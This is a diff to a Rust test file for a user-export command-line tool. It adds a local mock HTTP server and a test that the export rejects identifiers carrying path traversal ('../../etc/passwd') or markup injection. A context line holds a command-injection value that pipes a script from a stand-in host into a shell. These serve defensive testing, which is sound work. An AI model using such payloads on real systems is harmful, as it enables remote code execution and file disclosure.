@@ -5,7 +5,8 @@ use crate::support::run::run;
 use crate::support::world::{World, mfa};
 use serde_json::json;
 use std::fs;
-use std::io::Read;
+use std::io::{Read, Write};
+use std::net::TcpListener;
 use std::os::unix::fs::symlink;
 use std::process::Command;
 
@@ -15,6 +16,22 @@ const EVIL: &str = "c;curl evil.sh|sh";
 fn answer(kind: &str, body: &str) -> String {
     let head = "HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-type";
     format!("{head}: {kind}\r\ncontent-length: {}\r\n\r\n{body}", body.len())
+}
+
+/// A daemon that answers each path with what a function says; a client may hang up before its end.
+fn daemon(say: impl Fn(&str) -> String + Send + 'static) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut request = vec![0; 65536];
+            let length = stream.read(&mut request).unwrap_or_default();
+            let request = String::from_utf8_lossy(&request[..length]).into_owned();
+            let path = request.split(' ').nth(1).unwrap_or_default();
+            let _ = stream.write_all(say(path).as_bytes());
+        }
+    });
+    url
 }
 
 #[test]
@@ -88,4 +105,19 @@ fn the_file_of_a_day_report_has_the_name_that_was_asked_for() {
     let more = ["--report-format", "json", "--report-dir", folder.to_str().unwrap()];
     run(mfa(home.path(), &[&save[..], &more].concat())).ok();
     assert!(folder.join("desk-1-0001-2031-05-06.json").exists());
+}
+
+#[test]
+fn an_export_takes_no_identifier_that_would_be_a_path_or_markup() {
+    let home = tempfile::tempdir().unwrap();
+    for id in ["x}\nkind: role", "../../etc/passwd", "a b"] {
+        let user = json!({ "identifier": id, "role": "clerk" }).to_string();
+        let url = daemon(move |path| {
+            let records = if path.starts_with("/users") { format!("{user}\n") } else { String::new() };
+            answer("application/x-ndjson", &records)
+        });
+        let said = run(mfa(home.path(), &["export", "out", "--url", &url, "--retries", "0"])).fails(1);
+        assert!(said.contains("no daemon takes such an identifier"), "{id}: {said}");
+        assert!(!home.path().join("out").exists(), "{id}");
+    }
 }
